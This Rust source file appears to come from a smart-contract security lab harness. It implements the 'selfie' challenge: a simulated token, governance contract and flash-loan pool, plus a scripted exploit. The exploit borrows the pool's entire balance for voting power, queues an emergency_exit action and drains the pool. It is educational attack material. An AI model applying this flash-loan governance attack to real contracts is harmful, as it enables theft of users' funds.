//! Governance votes are weighed by a token snapshot that anyone can take,
//! including while holding a flash loan of the pool's entire balance.

use std::sync::Arc;

use gauntlet_common::primitives::ether;
use gauntlet_common::subsystems::scripted::{Hook, ScriptArg, ScriptedContract};
use gauntlet_common::subsystems::selfie::{Governance, SelfiePool, ACTION_DELAY};
use gauntlet_common::subsystems::token::Token;
use gauntlet_common::subsystems::CALLBACK_SUCCESS;
use gauntlet_common::{Amount, Arg, CallData};

use crate::runner::{Exploit, ExploitView, Step};
use crate::scenario::{
    AccountRef, ActorDef, AssetRef, Assertion, CallSpec, Scenario, ScenarioError,
};

pub const NAME: &str = "selfie";

pub fn token_initial_supply() -> Amount {
    ether(2_000_000)
}

pub fn tokens_in_pool() -> Amount {
    ether(1_500_000)
}

pub fn scenario() -> Result<Scenario, ScenarioError> {
    let pool = AccountRef::subsystem("pool");
    let player = AccountRef::actor("player");
    let dvt = AssetRef::token("token");

    Scenario::builder(NAME)
        .description("Flash-borrowed voting power queues a governance action that drains the pool")
        .actor(ActorDef::observer("deployer", Amount::zero()))
        .actor(ActorDef::signer("player", Amount::zero()))
        .deploy(
            "token",
            "deployer",
            Arc::new(Token),
            vec![token_initial_supply().into()],
        )
        .deploy(
            "governance",
            "deployer",
            Arc::new(Governance),
            vec![AccountRef::subsystem("token").into()],
        )
        .deploy(
            "pool",
            "deployer",
            Arc::new(SelfiePool),
            vec![
                AccountRef::subsystem("token").into(),
                AccountRef::subsystem("governance").into(),
            ],
        )
        .fund(pool.clone(), dvt.clone(), tokens_in_pool())
        .precondition(Assertion::balance_eq(pool.clone(), dvt.clone(), tokens_in_pool()))
        .precondition(Assertion::returns(
            "player",
            AccountRef::subsystem("governance"),
            CallSpec::new("action_counter"),
            Amount::one(),
        ))
        .precondition(Assertion::returns(
            "player",
            pool.clone(),
            CallSpec::new("max_flash_loan").arg(AccountRef::subsystem("token")),
            tokens_in_pool(),
        ))
        .postcondition(Assertion::balance_eq(player, dvt.clone(), tokens_in_pool()))
        .postcondition(Assertion::balance_eq(pool, dvt, Amount::zero()))
        .build()
}

/// Borrow the pool, snapshot the votes, queue `emergency_exit(player)`,
/// repay, wait out the delay and execute.
pub struct SelfieExploit;

impl Exploit for SelfieExploit {
    fn plan(&self, view: &ExploitView) -> anyhow::Result<Vec<Step>> {
        let player = view.actor("player")?;
        let token = view.subsystem("token")?;
        let pool = view.subsystem("pool")?;
        let governance = view.subsystem("governance")?;
        let attacker = view.predict_address("player", 0)?;

        let drain = ScriptArg::payload("emergency_exit", vec![player.into()]);
        let on_loan = Hook::new()
            .call(token, "snapshot", vec![])
            .call(
                governance,
                "queue_action",
                vec![pool.into(), Amount::zero().into(), drain],
            )
            .call(
                token,
                "approve",
                vec![ScriptArg::Caller, ScriptArg::Incoming(2)],
            )
            .returning(CALLBACK_SUCCESS);
        let contract = ScriptedContract::new().on("on_flash_loan", on_loan);

        let loan = CallData::new("flash_loan")
            .arg(attacker)
            .arg(token)
            .arg(tokens_in_pool())
            .arg(Arg::Bytes(Vec::new()));
        Ok(vec![
            Step::deploy("player", Arc::new(contract), vec![]),
            Step::call("player", pool, loan),
            Step::AdvanceTime(ACTION_DELAY),
            Step::call(
                "player",
                governance,
                CallData::new("execute_action").arg(Amount::one()),
            ),
        ])
    }

    fn describe(&self) -> String {
        "vote with borrowed tokens".to_string()
    }
}

pub fn exploit() -> Arc<dyn Exploit> {
    Arc::new(SelfieExploit)
}
